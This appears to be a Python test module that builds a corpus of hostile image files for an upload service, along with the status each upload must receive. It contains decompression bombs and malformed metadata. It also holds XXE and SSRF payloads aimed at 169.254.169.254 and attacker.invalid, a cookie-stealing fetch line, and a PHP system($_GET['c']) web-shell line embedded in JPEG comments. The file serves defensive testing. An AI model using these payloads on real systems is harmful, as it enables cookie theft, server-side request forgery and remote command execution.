"""Build the hostile-input corpus under tests/data/hostile/, and say what each file must get.

Run ``python -m tests.hostile.make_corpus`` from the project root to (re)write the files and
their README. Every file is made here, deterministically, from Pillow output (pixels from
``tests.support.photos.picture``) and hand-written bytes: no file comes from elsewhere. Each
``Entry`` declares its expectation: ``status`` 201 (legitimately readable: stored, metadata
read, every preset rendered) or the 4xx and problem ``code`` an upload must be refused with.

Files stay small (the directory is well under 3 MB): bombs *declare* their pixels, or hold
them compressed (a few KB of deflate for 156 million pixels); animations have tiny frames.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from PIL import Image, ImageCms, TiffImagePlugin
from PIL.PngImagePlugin import PngInfo

from tests.support import photos

DATA = Path(__file__).resolve().parent.parent / "data" / "hostile"

BM = "© Trustees of the British Museum"

# ---------------------------------------------------------------- the entry


@dataclass(frozen=True)
class Entry:
    """One corpus file and what an upload of it must get."""

    name: str  # file name under tests/data/hostile/
    kind: str  # what it attacks (README section)
    origin: str  # how the bytes are made
    build: Callable[[], bytes]
    status: int = 201  # 201: accepted; else the 4xx the upload must answer
    code: str | None = None  # the problem code of a refusal
    size: tuple[int, int] | None = None  # accepted: width x height as displayed
    media_type: str | None = None  # accepted: the media type decided from the bytes
    filename: str | None = None  # the name sent with the upload (default: ``name``)
    fields: dict[str, str] = field(default_factory=dict)  # form fields sent along
    subset: bool = False  # also run on PostgreSQL + S3
    # Accepted: the picture the file shows (as displayed), which a variant that keeps the size
    # must look like; None where the file's colours are not meant to survive as they are.
    pixels: Callable[[], Image.Image] | None = None
    # Accepted: False where rendering every preset is not yet bounded on this branch (the
    # 144-megapixel PNG: render's decoded-pixel budget belongs to another change).
    render: bool = True

    @property
    def accepted(self) -> bool:
        return self.status == 201

    @property
    def upload_name(self) -> str:
        return self.name if self.filename is None else self.filename


# ---------------------------------------------------------------- building blocks


def pic(width: int, height: int, mode: str = "RGB") -> Image.Image:
    return photos.picture(width, height, "RGB" if mode not in ("RGB", "RGBA") else mode).convert(
        mode
    )


def shows(width: int, height: int, mode: str = "RGB", turn: Image.Transpose | None = None
          ) -> Callable[[], Image.Image]:  # fmt: skip
    """What a file made from ``pic(width, height, mode)`` shows: that picture, maybe turned."""

    def picture() -> Image.Image:
        image = pic(width, height, mode).convert("RGB")
        return image if turn is None else image.transpose(turn)

    return picture


def save(image: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    image.save(buf, fmt, **params)
    return buf.getvalue()


def jpeg(width: int, height: int, **params: object) -> bytes:
    return save(pic(width, height), "JPEG", quality=80, **params)


def segment(marker: int, payload: bytes) -> bytes:
    assert len(payload) <= 65533, "a JPEG segment holds at most 65533 bytes"
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def spliced(data: bytes, *segments: bytes) -> bytes:
    """``segments`` inserted after SOI and the leading APPn run, in order."""
    for seg in reversed(segments):
        data = photos.splice_segment(data, seg)
    return data


def without_jfif(data: bytes) -> bytes:
    """The JPEG without its APP0 JFIF segment (so Pillow takes its DPI from EXIF)."""
    assert data[2:4] == b"\xff\xe0"
    (length,) = struct.unpack(">H", data[4:6])
    return data[:2] + data[4 + length :]


def with_sof_size(data: bytes, width: int, height: int) -> bytes:
    """The JPEG with its frame header (SOF0) declaring ``width`` x ``height``."""
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def exif_segment(tiff: bytes) -> bytes:
    return segment(0xE1, b"Exif\0\0" + tiff)


def xmp_segment(packet: bytes) -> bytes:
    return segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet)


def icc_segments(profile: bytes, seq: Sequence[tuple[int, int]] | None = None) -> list[bytes]:
    """APP2 ICC_PROFILE segments; ``seq`` overrides the (number, count) of each chunk."""
    step = 65519
    chunks = [profile[i : i + step] for i in range(0, len(profile), step)] or [b""]
    numbers = list(seq) if seq is not None else [(i + 1, len(chunks)) for i in range(len(chunks))]
    return [
        segment(0xE2, b"ICC_PROFILE\0" + bytes([number, count]) + chunk)
        for (number, count), chunk in zip(numbers, chunks, strict=False)
    ]


def ifd(entries: Sequence[tuple[int, int, int, bytes]], next_ifd: int) -> bytes:
    """A little-endian IFD: (tag, type, count, 4 value bytes) entries, then the next pointer."""
    body = b"".join(
        struct.pack("<HHI", tag, typ, count) + value.ljust(4, b"\0")[:4]
        for tag, typ, count, value in entries
    )
    return struct.pack("<H", len(entries)) + body + struct.pack("<I", next_ifd)


def u32(value: int) -> bytes:
    return struct.pack("<I", value)


def u16(value: int) -> bytes:
    return struct.pack("<H", value)


BYTE, ASCII, SHORT, LONG, RATIONAL, UNDEFINED = 1, 2, 3, 4, 5, 7


def tiff_pages(
    pages: Sequence[Sequence[tuple[int, int, int, bytes]]],
    strips: Sequence[bytes],
    *,
    loop_to: int | None = None,
) -> bytes:
    """A little-endian TIFF by hand. Page i's StripOffsets (273) points at ``strips[i % n]``.

    Values over four bytes are written before their IFD; ``loop_to`` makes the last IFD's
    next pointer go back to that page's IFD (an IFD loop) instead of ending the chain.
    """
    out = bytearray(b"II*\0\0\0\0\0")
    strip_at = []
    for strip in strips:
        strip_at.append(len(out))
        out += strip + b"\0" * (len(strip) % 2)
    ifd_at: list[int] = []
    next_fields: list[int] = []
    for index, tags in enumerate(pages):
        entries = []
        for tag, typ, count, value in sorted(tags):
            if tag == 273:
                value = u32(strip_at[index % len(strip_at)])
            if len(value) > 4:
                entries.append((tag, typ, count, u32(len(out))))
                out += value + b"\0" * (len(value) % 2)
            else:
                entries.append((tag, typ, count, value))
        ifd_at.append(len(out))
        out += ifd(entries, 0)
        next_fields.append(len(out) - 4)
    out[4:8] = u32(ifd_at[0])
    for index, at in enumerate(next_fields[:-1]):
        out[at : at + 4] = u32(ifd_at[index + 1])
    if loop_to is not None:
        out[next_fields[-1] : next_fields[-1] + 4] = u32(ifd_at[loop_to])
    return bytes(out)


def grey_page(width: int, height: int, strip_bytes: int, *, bits: int = 8,
              compression: int = 1, extra: Sequence[tuple[int, int, int, bytes]] = ()
              ) -> list[tuple[int, int, int, bytes]]:  # fmt: skip
    """The tags of one single-strip greyscale page."""
    return [
        (256, LONG, 1, u32(width)),
        (257, LONG, 1, u32(height)),
        (258, SHORT, 1, u16(bits)),
        (259, SHORT, 1, u16(compression)),
        (262, SHORT, 1, u16(1)),  # min-is-black
        (273, LONG, 1, u32(0)),
        (277, SHORT, 1, u16(1)),
        (278, LONG, 1, u32(height)),
        (279, LONG, 1, u32(strip_bytes)),
        *extra,
    ]


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return photos._png_chunk(kind, body)


def png_raw(width: int, height: int, bit_depth: int, colour_type: int, rows: bytes) -> bytes:
    """A PNG by hand: IHDR, one IDAT of ``rows`` (filter bytes included), IEND."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(rows, 9))
        + png_chunk(b"IEND", b"")
    )


def sixteen_bit_rows(width: int, height: int, channels: int) -> bytes:
    """Big-endian 16-bit rows (filter 0) whose low bytes carry other detail than the high."""
    mode = {3: "RGB", 4: "RGBA"}[channels]
    high = pic(width, height, mode).tobytes()
    low = pic(width, height, mode).transpose(Image.Transpose.ROTATE_180).tobytes()
    samples = bytearray(len(high) * 2)
    samples[0::2], samples[1::2] = high, low
    stride = width * channels * 2
    return b"".join(b"\0" + samples[y * stride : (y + 1) * stride] for y in range(height))


def insert_png_chunks(data: bytes, *chunks: bytes) -> bytes:
    """``chunks`` inserted right after IHDR."""
    at = 8 + 8 + 13 + 4
    return data[:at] + b"".join(chunks) + data[at:]


def deflated_zeros(total: int, chunk: int = 1 << 20) -> bytes:
    compressor = zlib.compressobj(9)
    zeros = b"\0" * chunk
    parts = [
        compressor.compress(zeros[: min(chunk, total - done)]) for done in range(0, total, chunk)
    ]
    return b"".join(parts) + compressor.flush()


def garbage(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def cut(data: bytes, keep: float) -> bytes:
    return data[: int(len(data) * keep)]


def riff(chunks: Sequence[tuple[bytes, bytes]], *, size: int | None = None) -> bytes:
    body = b"WEBP" + b"".join(
        kind + struct.pack("<I", len(payload)) + payload + b"\0" * (len(payload) % 2)
        for kind, payload in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body) if size is None else size) + body


def webp_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """The chunks of a RIFF WebP file."""
    chunks, at = [], 12
    while at + 8 <= len(data):
        kind, (length,) = data[at : at + 4], struct.unpack("<I", data[at + 4 : at + 8])
        chunks.append((kind, data[at + 8 : at + 8 + length]))
        at += 8 + length + length % 2
    return chunks


def vp8x(flags: int, width: int, height: int) -> tuple[bytes, bytes]:
    return b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (
        height - 1
    ).to_bytes(3, "little")


# ---------------------------------------------------------------- XMP payloads


def xmp(body: str, *, prolog: str = "") -> bytes:
    return (
        f"{prolog}"
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/">'
        f"{body}</rdf:Description></rdf:RDF></x:xmpmeta>"
    ).encode()


XMP_SSRF = photos.xmp_with_external_entity("http://169.254.169.254/latest/meta-data/")
XMP_QUADRATIC = xmp(
    "<dc:rights>" + "&a;" * 4000 + "</dc:rights>",
    prolog=f'<?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY a "{"A" * 8000}">]>',
)
XMP_PARAMETER_ENTITY = xmp(
    "<dc:rights>x</dc:rights>",
    prolog='<?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY % remote SYSTEM '
    '"http://attacker.invalid/evil.dtd"> %remote;]>',
)
XMP_DEEP = xmp("<dc:rights>" + "<a>" * 9000 + "deep" + "</a>" * 9000 + "</dc:rights>")
XMP_NOT_XML = b"<x:xmpmeta><rdf:RDF><unclosed attr='1>\x01\x02 &undefined; </x:xmpmeta"


def xmp_many_items(keywords: int, description_words: int) -> bytes:
    return xmp(
        "<dc:subject><rdf:Bag>"
        + "".join(f"<rdf:li>keyword {i}</rdf:li>" for i in range(keywords))
        + "</rdf:Bag></dc:subject>"
        + f'<dc:description><rdf:Alt><rdf:li xml:lang="x-default">{"long " * description_words}'
        "</rdf:li></rdf:Alt></dc:description>"
        + "".join(
            f'<photoshop:P{i} xmlns:photoshop="urn:p{i}">v{i}</photoshop:P{i}>' for i in range(2000)
        )
    )


XMP_MANY_ITEMS = xmp_many_items(15000, 40000)  # about 900 KB
XMP_OVER_1MB = xmp_many_items(20000, 100000)  # about 1.4 MB


# ---------------------------------------------------------------- JPEG


def jpeg_truncated_header() -> bytes:
    return jpeg(90, 60)[:300]


def jpeg_truncated_scan() -> bytes:
    data = jpeg(91, 60)
    scan = data.index(b"\xff\xda")
    return data[: scan + (len(data) - scan) // 3]


def jpeg_no_eoi() -> bytes:
    """The whole scan but no EOI marker: libjpeg has every pixel and warns."""
    return jpeg(92, 60)[:-2]


def jpeg_corrupt_scan() -> bytes:
    """Random bytes overwrite the middle of the entropy-coded scan."""
    data = bytearray(jpeg(93, 60))
    scan = data.index(b"\xff\xda") + 20
    middle = scan + (len(data) - scan) // 2
    data[middle : middle + 64] = garbage(64, 1).replace(b"\xff", b"\x00")
    return bytes(data)


def jpeg_bad_huffman_table() -> bytes:
    """The DHT segment's code counts claim more codes than a table can hold."""
    data = bytearray(jpeg(94, 60))
    dht = data.index(b"\xff\xc4")
    data[dht + 5 : dht + 21] = b"\xff" * 16
    return bytes(data)


def jpeg_sof_bomb() -> bytes:
    return with_sof_size(jpeg(95, 60), 65500, 65500)


def jpeg_sof_over_limit() -> bytes:
    """20000 x 10000: 200 Mpx, over the 150 Mpx limit but under Pillow's own 2x bomb error."""
    return with_sof_size(jpeg(96, 60), 20000, 10000)


def jpeg_sof_zero_height() -> bytes:
    return with_sof_size(jpeg(97, 60), 97, 0)


def scans(data: bytes) -> list[bytes]:
    """Each SOS segment of a JPEG with its entropy-coded data, up to the next marker."""
    found, at = [], data.index(b"\xff\xda")
    while data[at : at + 2] == b"\xff\xda":
        end = at + 2
        while True:
            end = data.index(b"\xff", end)
            if data[end + 1] != 0 and not 0xD0 <= data[end + 1] <= 0xD7:
                break
            end += 2
        found.append(data[at:end])
        while data[end + 1] not in (0xDA, 0xD9):  # a DHT between scans
            (length,) = struct.unpack(">H", data[end + 2 : end + 4])
            end += 2 + length
        at = end
    return found


def jpeg_scan_bomb() -> bytes:
    """A flat 4096 x 4096 progressive JPEG whose first AC scan is repeated 3000 times: each
    repeat is a few bytes, and a pass of the decoder over all 262,144 blocks."""
    data = save(Image.new("L", (4096, 4096), 128), "JPEG", progressive=True, quality=90)
    ac_scan = scans(data)[1]
    return data[:-2] + ac_scan * 3000 + b"\xff\xd9"


def jpeg_progressive() -> bytes:
    return save(pic(129, 60), "JPEG", quality=85, progressive=True)


def jpeg_exif_bad_offsets() -> bytes:
    return save(pic(98, 60), "JPEG", quality=80, exif=photos.malformed_exif_block())


def exif_ifd_loop() -> bytes:
    # IFD0 at 8: Make -> "Canon"; ExifOffset and GPSInfo point back at IFD0; next -> IFD1,
    # whose next points back at IFD0 (a two-IFD loop).
    make_at, ifd1_at = 8 + 2 + 12 * 4 + 4, 8 + 2 + 12 * 4 + 4 + 6
    ifd0 = ifd(
        [
            (0x010F, ASCII, 6, u32(make_at)),
            (0x0112, SHORT, 1, u16(1)),
            (0x8769, LONG, 1, u32(8)),
            (0x8825, LONG, 1, u32(8)),
        ],
        ifd1_at,
    )
    ifd1 = ifd([(0x0103, SHORT, 1, u16(6))], 8)
    return b"II*\0" + u32(8) + ifd0 + b"Canon\0" + ifd1


def jpeg_exif_ifd_loop() -> bytes:
    return spliced(without_jfif(jpeg(99, 60)), exif_segment(exif_ifd_loop()))


def exif_huge_counts() -> bytes:
    entries = [
        (0x010F, ASCII, 0xFFFFFFFF, u32(0)),  # Make: 4 G characters, from the start
        (0x011A, RATIONAL, 0x20000000, u32(8)),  # XResolution: 512 M rationals
        (0x011B, RATIONAL, 1, u32(0)),  # YResolution: 0/0 (the zero denominator)
        (0x0128, SHORT, 1, u16(2)),  # ResolutionUnit, so Pillow computes a DPI from them
        (0x0111, LONG, 0x3FFFFFFF, u32(8)),  # StripOffsets: 1 G longs
        (0x010E, ASCII, 0x7FFFFFFF, u32(0xFFFFFFF0)),  # ImageDescription: past the end
        (0x8298, UNDEFINED, 0xFFFFFFFF, u32(8)),  # Copyright as UNDEFINED, 4 GB
        (0x013B, 99, 0xFFFFFFFF, u32(8)),  # Artist with an unknown field type
        (0x0112, SHORT, 0xFFFF, u32(8)),  # Orientation with 65535 values
        (0x8769, LONG, 1, u32(0xFFFFFFFF)),  # ExifOffset nowhere
    ]
    return b"II*\0" + u32(8) + ifd(entries, 0xFFFFFFF0) + b"\0" * 16


def jpeg_exif_huge_counts() -> bytes:
    return spliced(without_jfif(jpeg(100, 60)), exif_segment(exif_huge_counts()))


def exif_oversized() -> bytes:
    """A full 64 KB EXIF segment: 5000 entries in IFD0, a 2000-char description at the end."""
    count = 5000
    text_at = 8 + 2 + 12 * (count + 1) + 4
    description = ("Oversized EXIF " * 200)[:2000].encode() + b"\0"
    entries = [(0x010E, ASCII, len(description), u32(text_at))]
    entries += [(0xC000 + i, SHORT, 1, u16(i)) for i in range(count)]
    return b"II*\0" + u32(8) + ifd(entries, 0) + description


def jpeg_exif_oversized() -> bytes:
    return spliced(jpeg(101, 60), exif_segment(exif_oversized()))


def jpeg_exif_not_tiff() -> bytes:
    """An APP1 "Exif" segment whose body is not a TIFF structure at all."""
    return spliced(without_jfif(jpeg(102, 60)), segment(0xE1, b"Exif\0\0" + garbage(400, 2)))


def jpeg_iptc_bad_lengths() -> bytes:
    iim = photos.iim_dataset(1, 90, b"\x1b%G") + photos.iim_dataset(2, 116, BM.encode())
    iim += struct.pack(">BBBH", 0x1C, 2, 120, 0x7FFF) + b"declares 32767 bytes, has 30"
    return spliced(jpeg(103, 60), photos.photoshop_app13(iim))


def jpeg_iptc_extended_length() -> bytes:
    iim = photos.iim_dataset(2, 80, b"Jane Photographer")
    iim += struct.pack(">BBBH", 0x1C, 2, 110, 0x8004) + u32(0xFFFFFFFF)[::-1] + b"short"
    iim += struct.pack(">BBBH", 0x1C, 2, 116, 0x80FF) + b"\xff" * 8
    return spliced(jpeg(104, 60), photos.photoshop_app13(iim))


def jpeg_iptc_bad_marker() -> bytes:
    iim = photos.iim_dataset(2, 116, BM.encode()) + b"\x1d\x02\x78\x00\x05hello"
    return spliced(jpeg(105, 60), photos.photoshop_app13(iim))


def jpeg_8bim_lying_size() -> bytes:
    """A Photoshop resource declaring 4 GB, then an IIM block after it."""
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\0\0" + struct.pack(">I", 0xFFFFFFF0)
    payload = b"Photoshop 3.0\0" + resource + photos.iptc_iim()
    return spliced(jpeg(106, 60), segment(0xED, payload))


def jpeg_iptc_many_keywords() -> bytes:
    iim = photos.iim_dataset(1, 90, b"\x1b%G")
    iim += b"".join(photos.iim_dataset(2, 25, f"kw{i}".encode()) for i in range(5000))
    return spliced(jpeg(107, 60), photos.photoshop_app13(iim[:65000]))


def jpeg_xmp(packet: bytes, width: int) -> Callable[[], bytes]:
    return lambda: spliced(jpeg(width, 60), xmp_segment(packet))


def lab_icc() -> bytes:
    """littleCMS's Lab profile, its creation date and profile ID zeroed (so it is the same
    bytes every time)."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes())
    profile[24:36] = bytes(12)
    profile[84:100] = bytes(16)
    return bytes(profile)


def icc_lying_header() -> bytes:
    """An ICC header claiming 4 GB and 2^31 tags, then nothing."""
    header = bytearray(photos.adobe_rgb_like_icc()[:128])
    header[0:4] = struct.pack(">I", 0xFFFFFFFF)
    return bytes(header) + struct.pack(">I", 0x7FFFFFFF) + b"desc" + struct.pack(">II", 0, 0xFFFF)


def jpeg_with_icc(profile: bytes, width: int, seq: Sequence[tuple[int, int]] | None = None,
                  mode: str = "RGB") -> Callable[[], bytes]:  # fmt: skip
    def build() -> bytes:
        data = save(pic(width, 60, mode), "JPEG", quality=80)
        return spliced(data, *icc_segments(profile, seq))

    return build


def jpeg_cmyk() -> bytes:
    return save(pic(112, 60, "CMYK"), "JPEG", quality=80)


def jpeg_polyglot_html() -> bytes:
    return jpeg(113, 60) + b"<!doctype html><html><body><script>alert(document.cookie)</script>"


def zip_archive() -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        info = zipfile.ZipInfo("payload/evil.js", date_time=(2024, 1, 1, 0, 0, 0))
        archive.writestr(info, "fetch('https://attacker.invalid/?c=' + document.cookie)")
    return buf.getvalue()


def jpeg_polyglot_zip() -> bytes:
    return jpeg(114, 60) + zip_archive()


def jpeg_comment_script() -> bytes:
    return spliced(
        jpeg(115, 60), segment(0xFE, b"<script>alert(1)</script><?php system($_GET['c']); ?>")
    )


def html_then_jpeg() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + jpeg(116, 60)


# ---------------------------------------------------------------- text in fields and names

CONTROLS = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r") + "\x7f"
BIDI = "\u202eevil\u202c \u200b\u200d\ufeff"
ZERO_WIDTH = " \u200b\u200d\ufeff"
NASTY = f"Bowl{CONTROLS}{BIDI} 🏺 e\u0301 ﷽ <script>alert(1)</script> \x00end"


def jpeg_text_controls() -> bytes:
    """EXIF, IPTC and XMP text full of control, bidi and zero-width characters (and a NUL)."""
    exif = photos.make_exif(
        artist=NASTY.replace("\x00", ""),  # EXIF ASCII ends at the first NUL
        copyright=f"© Trustees\x07 of the\x1b[31m British Museum{BIDI}",
        description=NASTY.replace("\x00", ""),
        gps=None,
    )
    iim = photos.iptc_iim(
        by_line=NASTY, copyright_notice=f"{BM}\x00\x01", credit=f"\x00{BM}", caption=NASTY
    )
    packet = xmp(
        '<dc:rights><rdf:Alt><rdf:li xml:lang="x-default">&#x202E;'
        + BM
        + "&#xFEFF;</rdf:li></rdf:Alt></dc:rights>"
        + '<dc:description><rdf:Alt><rdf:li xml:lang="x-default">tab\there\u200b&lt;script&gt;'
        "</rdf:li></rdf:Alt></dc:description>"
    )
    data = save(pic(117, 60), "JPEG", quality=80, exif=exif, xmp=packet)
    return spliced(data, photos.photoshop_app13(iim))


def jpeg_long_fields() -> bytes:
    """A 60,000-character EXIF description, a 32,000-byte IPTC caption, a 60,000-char XMP one."""
    long_text = ("Hoa Hakananai'a " * 4000)[:60000]
    exif = photos.make_exif(description=long_text, gps=None)
    iim = photos.iptc_iim(caption=("Caption " * 4000)[:32000])
    packet = photos.rights_xmp(description=long_text[:55000])
    data = save(pic(118, 60), "JPEG", quality=80, exif=exif, xmp=packet)
    return spliced(data, photos.photoshop_app13(iim))


# ---------------------------------------------------------------- PNG


def png(width: int, height: int, mode: str = "RGB", **params: object) -> bytes:
    return save(pic(width, height, mode), "PNG", **params)


def png_truncated() -> bytes:
    return cut(png(90, 64), 0.5)


def png_bad_crc() -> bytes:
    data = bytearray(png(91, 64))
    data[29:33] = b"\xde\xad\xbe\xef"  # IHDR's CRC
    return bytes(data)


def png_zero_width() -> bytes:
    return png_raw(0, 10, 8, 0, b"\0" * 10)


def png_compressed_bomb() -> bytes:
    """13000 x 12000 one-bit pixels really stored: 156 Mpx deflated into about 20 KB."""
    width, height = 13000, 12000
    rows = (1 + (width + 7) // 8) * height
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", deflated_zeros(rows))
        + png_chunk(b"IEND", b"")
    )


def png_ztxt_bomb() -> bytes:
    """A zTXt chunk that inflates to 16 MB of zeros (Pillow caps text chunks at 1 MB)."""
    body = b"Comment\0\0" + deflated_zeros(16 << 20)
    return insert_png_chunks(png(92, 64), png_chunk(b"zTXt", body))


def png_chunk_flood() -> bytes:
    """20,000 empty private chunks before the image data: Pillow reads each one in Python."""
    return insert_png_chunks(png(96, 64), *[png_chunk(b"prVt", b"")] * 20_000)


def png_iccp_garbage() -> bytes:
    body = b"icc\0\0" + zlib.compress(garbage(3000, 3))
    return insert_png_chunks(png(93, 64), png_chunk(b"iCCP", body))


def png_iccp_bomb() -> bytes:
    body = b"icc\0\0" + deflated_zeros(16 << 20)
    return insert_png_chunks(png(94, 64), png_chunk(b"iCCP", body))


def png_exif_garbage() -> bytes:
    return insert_png_chunks(png(95, 64), png_chunk(b"eXIf", b"MM\0*" + garbage(500, 4)))


def png_16bit_rgb() -> bytes:
    return png_raw(96, 64, 16, 2, sixteen_bit_rows(96, 64, 3))


def png_16bit_rgba() -> bytes:
    return png_raw(97, 64, 16, 6, sixteen_bit_rows(97, 64, 4))


def png_16bit_grey() -> bytes:
    grey = pic(98, 64, "L").point(lambda v: v * 257, "I").convert("I;16")
    return save(grey, "PNG")


def png_1bit() -> bytes:
    return png(99, 64, "1")


def png_palette_transparency() -> bytes:
    image = pic(100, 64).convert("P")
    return save(image, "PNG", transparency=0)


def png_apng_many_frames() -> bytes:
    frames = [Image.new("RGB", (8, 8), (i % 256, i // 256 % 256, 7)) for i in range(2000)]
    return save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=20)


def png_actl_lies() -> bytes:
    """acTL declares 2^31-1 frames; there is one."""
    actl = png_chunk(b"acTL", struct.pack(">II", 0x7FFFFFFF, 0))
    return insert_png_chunks(png(101, 64), actl)


def png_xmp(packet: bytes, width: int, *, compressed: bool = False) -> Callable[[], bytes]:
    def build() -> bytes:
        info = PngInfo()
        info.add_itxt("XML:com.adobe.xmp", packet.decode("utf-8"), zip=compressed)
        return png(width, 64, pnginfo=info)

    return build


def png_polyglot_html() -> bytes:
    return png(104, 64) + b"<html><script>alert(1)</script></html>"


# ---------------------------------------------------------------- TIFF


def tiff(width: int, height: int, mode: str = "RGB", **params: object) -> bytes:
    return save(pic(width, height, mode), "TIFF", **params)


def tiff_truncated() -> bytes:
    return cut(tiff(90, 48), 0.6)


def tiff_declared_bomb() -> bytes:
    return tiff_pages([grey_page(100000, 100000, 16)], [b"\0" * 16])


def tiff_compressed_bomb() -> bytes:
    """13000 x 12000 one-bit pixels, deflate-compressed into about 20 KB."""
    width, height = 13000, 12000
    strip = deflated_zeros((width + 7) // 8 * height)
    page = grey_page(width, height, len(strip), bits=1, compression=8)
    return tiff_pages([page], [strip])


def tiff_many_pages() -> bytes:
    """4096 pages of 32 x 32 grey sharing one strip."""
    strip = pic(32, 32, "L").tobytes()
    return tiff_pages([grey_page(32, 32, len(strip))] * 4096, [strip])


def tiff_many_big_pages() -> bytes:
    """1000 pages of 2000 x 2000 (4 Mpx each, 4 Gpx in all), one shared deflate strip."""
    strip = deflated_zeros(2000 * 2000)
    return tiff_pages([grey_page(2000, 2000, len(strip), compression=8)] * 1000, [strip])


def tiff_ifd_self_loop() -> bytes:
    strip = pic(33, 32, "L").tobytes()
    return tiff_pages([grey_page(33, 32, len(strip))], [strip], loop_to=0)


def tiff_ifd_two_loop() -> bytes:
    strip = pic(34, 32, "L").tobytes()
    return tiff_pages([grey_page(34, 32, len(strip))] * 2, [strip], loop_to=0)


def tiff_strip_past_end() -> bytes:
    strip = pic(35, 32, "L").tobytes()
    data = bytearray(tiff_pages([grey_page(35, 32, len(strip))], [strip]))
    return bytes(data[: 8 + len(strip) // 4]) + bytes(data[8 + len(strip) :])


def tiff_huge_tag_count() -> bytes:
    strip = pic(36, 32, "L").tobytes()
    extra = [
        (0x010E, ASCII, 0x7FFFFFFF, b"x" * 8),  # ImageDescription: 2 G characters
        (0x013B, ASCII, 0xFFFFFFFF, b"Jane\0\0\0\0"),  # Artist: 4 G characters
        (0x0140, SHORT, 0x40000000, b"\0" * 8),  # ColorMap: 1 G shorts
    ]
    return tiff_pages([grey_page(36, 32, len(strip), extra=extra)], [strip])


def tiff_16bit_grey() -> bytes:
    grey = pic(91, 48, "L").point(lambda v: v * 257, "I").convert("I;16")
    return save(grey, "TIFF")


def tiff_16bit_cmyk() -> bytes:
    width, height = 37, 32
    cmyk = pic(width, height, "CMYK").tobytes()
    samples = bytearray(len(cmyk) * 2)
    samples[0::2], samples[1::2] = cmyk, cmyk  # little-endian: low, high
    page = [
        (256, LONG, 1, u32(width)),
        (257, LONG, 1, u32(height)),
        (258, SHORT, 4, struct.pack("<4H", 16, 16, 16, 16)),
        (259, SHORT, 1, u16(1)),
        (262, SHORT, 1, u16(5)),  # separated (CMYK)
        (273, LONG, 1, u32(0)),
        (277, SHORT, 1, u16(4)),
        (278, LONG, 1, u32(height)),
        (279, LONG, 1, u32(len(samples))),
        (284, SHORT, 1, u16(1)),
    ]
    return tiff_pages([page], [bytes(samples)])


def tiff_float() -> bytes:
    """32-bit floating-point grey samples (SampleFormat 3), values 0.0 to 1.0."""
    width, height = 38, 32
    grey = pic(width, height, "L").tobytes()
    samples = struct.pack(f"<{len(grey)}f", *(v / 255 for v in grey))
    page = grey_page(width, height, len(samples), bits=32, extra=[(339, SHORT, 1, u16(3))])
    return tiff_pages([page], [samples])


def tiff_int32() -> bytes:
    """32-bit unsigned integer grey samples."""
    width, height = 39, 32
    grey = pic(width, height, "L").tobytes()
    samples = struct.pack(f"<{len(grey)}I", *(v << 24 for v in grey))
    page = grey_page(width, height, len(samples), bits=32, extra=[(339, SHORT, 1, u16(1))])
    return tiff_pages([page], [samples])


def tiff_lab() -> bytes:
    """CIELab pixels converted from the sRGB picture by littleCMS."""
    srgb, lab = ImageCms.createProfile("sRGB"), ImageCms.createProfile("LAB")
    transform = ImageCms.buildTransform(srgb, lab, "RGB", "LAB")
    lab_image = ImageCms.applyTransform(pic(93, 48), transform)
    assert lab_image is not None
    lab_image.info.pop("icc_profile", None)  # littleCMS dates it: the bytes would change
    return save(lab_image, "TIFF")


def tiff_with_blocks(width: int, *, icc: bytes | None = None, xmp_packet: bytes | None = None,
                     iptc: bytes | None = None) -> Callable[[], bytes]:  # fmt: skip
    def build() -> bytes:
        strip = pic(width, 32, "L").tobytes()
        extra = []
        if icc is not None:
            extra.append((34675, UNDEFINED, len(icc), icc))
        if xmp_packet is not None:
            extra.append((700, BYTE, len(xmp_packet), xmp_packet))
        if iptc is not None:
            padded = iptc + b"\0" * (-len(iptc) % 4)
            extra.append((33723, LONG, len(padded) // 4, padded))
        return tiff_pages([grey_page(width, 32, len(strip), extra=extra)], [strip])

    return build


def bigtiff() -> bytes:
    return b"II+\0" + struct.pack("<HHQ", 8, 0, 16) + b"\0" * 32


# ---------------------------------------------------------------- WebP


def webp_truncated() -> bytes:
    return cut(save(pic(90, 64), "WEBP", quality=80), 0.5)


def webp_riff_size_lies() -> bytes:
    data = save(pic(91, 64), "WEBP", quality=80)
    return data[:4] + struct.pack("<I", 0x7FFFFFF0) + data[8:]


def webp_canvas_bomb() -> bytes:
    """An animation of two 8 x 8 frames on a VP8X canvas of 16384 x 16384 (268 Mpx)."""
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    data = save(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    chunks = webp_chunks(data)
    assert chunks[0][0] == b"VP8X"
